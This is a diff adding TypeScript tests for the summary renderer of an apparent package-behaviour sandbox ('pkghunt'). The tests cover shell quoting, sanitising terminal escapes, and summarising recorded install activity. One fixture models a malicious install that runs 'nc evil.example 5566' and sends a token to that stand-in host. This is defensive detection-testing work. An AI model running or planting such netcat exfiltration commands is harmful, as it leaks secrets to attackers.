@@ -1,0 +1,103 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { BehaviourRecord, Phase } from '../record/schema.ts';
+import { renderSummary, sanitizeForTerminal, shellQuote } from './render-summary.ts';
+
+function phase(overrides: Partial<Phase>): Phase {
+  return {
+    status: 'completed',
+    exit_code: 0,
+    duration_ms: 1000,
+    stdout_tail: '',
+    stderr_tail: '',
+    reason: null,
+    limits_hit: [],
+    commands: [],
+    files: [],
+    file_summary: [],
+    dns: [],
+    connections: [],
+    canaries: [],
+    survivors: [],
+    modules: [],
+    process_count: 1,
+    ...overrides,
+  };
+}
+
+function record(install: Phase): BehaviourRecord {
+  return {
+    schema_version: 1,
+    tool: { name: 'pkghunt', version: '0' },
+    run_id: 'r',
+    started_at: '',
+    finished_at: '',
+    package: {
+      ecosystem: 'pypi',
+      name: 'p',
+      version: '1',
+      requested: 'p',
+      source: 'index',
+      artifact: null,
+      metadata: null,
+    },
+    sandbox: {
+      tracer: 'strace',
+      limits: { timeout_s: 1, memory_mb: 1, pids: 1, disk_mb: 1, output_kb: 1 },
+      enforcement: {},
+      host_uid: 200000,
+      python: '/usr/bin/python3',
+      canary_token: '0123456789abcdef',
+    },
+    phases: { install },
+    index_requests: [],
+  };
+}
+
+test('shellQuote leaves plain words alone and quotes the rest', () => {
+  assert.equal(shellQuote('grep'), 'grep');
+  assert.equal(shellQuote('a b'), "'a b'");
+  assert.equal(shellQuote("it's"), `'it'\\''s'`);
+  assert.equal(shellQuote(''), "''");
+});
+
+test('package-controlled text cannot drive the terminal', () => {
+  assert.equal(sanitizeForTerminal('ok\x1b[31mred\x07'), 'ok\\x1b[31mred\\x07');
+});
+
+test('the summary names what was executed, contacted and looked up, folding repeats', () => {
+  const command = {
+    argv: ['nc', 'evil.example', '5566'],
+    cwd: '/',
+    pid: 9,
+    ppid: 1,
+    time: 0.5,
+    exe: '/usr/bin/nc',
+  };
+  const text = renderSummary(
+    record(
+      phase({
+        commands: [command, command],
+        dns: [{ name: 'evil.example', type: 'A', time: 0.1, answer: '127.53.0.1', server: '127.0.0.1:53' }],
+        connections: [
+          {
+            protocol: 'tcp',
+            ip: '127.53.0.1',
+            port: 5566,
+            hostname: 'evil.example',
+            sent_bytes: 5,
+            sent_preview: 'token',
+            http: null,
+            tls_sni: null,
+            time: 0.2,
+            pids: [9],
+          },
+        ],
+      }),
+    ),
+  );
+  assert.match(text, /\(x2\) \[9\] nc evil\.example 5566/);
+  assert.match(text, /evil\.example A via 127\.0\.0\.1:53/);
+  assert.match(text, /tcp evil\.example \(127\.53\.0\.1\):5566/);
+  assert.match(text, /sent 5 B: token/);
+});
